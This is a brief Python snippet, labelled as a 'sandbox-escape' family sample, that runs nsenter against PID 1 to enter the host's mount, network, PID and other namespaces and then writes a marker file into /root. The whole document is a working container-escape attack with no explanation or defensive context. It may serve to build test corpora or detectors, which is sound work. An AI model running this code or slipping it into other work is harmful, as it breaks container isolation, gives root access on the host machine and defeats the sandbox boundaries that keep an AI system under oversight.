# family: sandbox-escape
# nsenter into the host's namespaces through pid 1
import subprocess

subprocess.run(["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash", "-c",
                "echo pwned > /root/.x"])
